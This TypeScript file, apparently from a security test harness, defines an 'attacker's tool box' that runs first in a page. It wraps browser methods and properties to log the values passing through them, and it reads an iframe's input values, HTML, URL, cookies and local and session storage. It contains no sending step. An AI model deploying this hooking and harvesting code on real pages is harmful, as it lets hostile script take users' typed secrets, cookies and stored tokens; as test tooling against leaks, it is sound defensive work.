// The attacker's tool box. It keeps the browser's own functions, because some attacks replace them.
import type { Hostile } from './attack.ts';

/** Runs in the page, first of all. */
export function collector(thief: string): void {
  const { apply, getOwnPropertyDescriptor, defineProperty } = Reflect;
  const { stringify } = JSON;
  const collected: { way: string; text: string }[] = [];
  const last: Record<string, string> = {};
  let busy = false;

  function text(got: unknown): string {
    if (typeof got === 'string') return got;
    if (got instanceof ArrayBuffer) return text(new Uint8Array(got));
    if (ArrayBuffer.isView(got))
      return String.fromCharCode(...new Uint8Array(got.buffer, got.byteOffset, got.byteLength));
    if (got instanceof MessageEvent) return text(got.data);
    try {
      return stringify(got) ?? '';
    } catch {
      return '';
    }
  }

  /** Watching must not watch itself. */
  function quietly(run: () => void): void {
    if (busy) return;
    busy = true;
    try {
      run();
    } catch {
      // a getter that throws has nothing to tell
    } finally {
      busy = false;
    }
  }

  const hostile: Hostile = {
    thief,
    collected,
    collect(way, ...got) {
      quietly(() => {
        for (const each of got) {
          const said = text(each);
          // Polling sees the same again and again; keys repeat for a reason.
          if (said === '' || (last[way] === said && said.length > 1)) continue;
          last[way] = said;
          collected[collected.length] = { way, text: said };
        }
      });
    },
    wrap(owner, method, see) {
      const original = (owner as Record<string, (...given: unknown[]) => unknown>)[method];
      if (!original) return;
      defineProperty(owner, method, {
        configurable: true,
        writable: true,
        value: function (this: unknown, ...given: unknown[]) {
          const answer = apply(original, this, given);
          quietly(() => {
            busy = false;
            see(given, answer, this);
          });
          return answer;
        },
      });
    },
    wrapProperty(owner, property, see) {
      const { get, set } = getOwnPropertyDescriptor(owner, property) ?? {};
      defineProperty(owner, property, {
        configurable: true,
        get() {
          const value: unknown = get && apply(get, this, []);
          see(value);
          return value;
        },
        set(value: unknown) {
          see(value);
          if (set) apply(set, this, [value]);
        },
      });
    },
    frame() {
      const search = (root: Document | ShadowRoot): HTMLIFrameElement | null => {
        for (const element of root.querySelectorAll('*')) {
          if (element instanceof HTMLIFrameElement) return element;
          const inside = element.shadowRoot && search(element.shadowRoot);
          if (inside) return inside;
        }
        return null;
      };
      return search(document);
    },
    lookInto(window) {
      const looks: (() => unknown)[] = [
        () => [...(window?.document.querySelectorAll('input') ?? [])].map(({ value }) => value),
        () => window?.document.documentElement.outerHTML,
        () => window?.name,
        () => window?.location.href,
        () => window?.history.state,
        () => ({ ...window?.localStorage, ...window?.sessionStorage }),
        () => window?.document.cookie,
      ];
      return looks
        .map((look) => {
          try {
            return text(look());
          } catch {
            return '';
          }
        })
        .join(' ');
    },
  };
  Object.assign(window, { hostile });
}
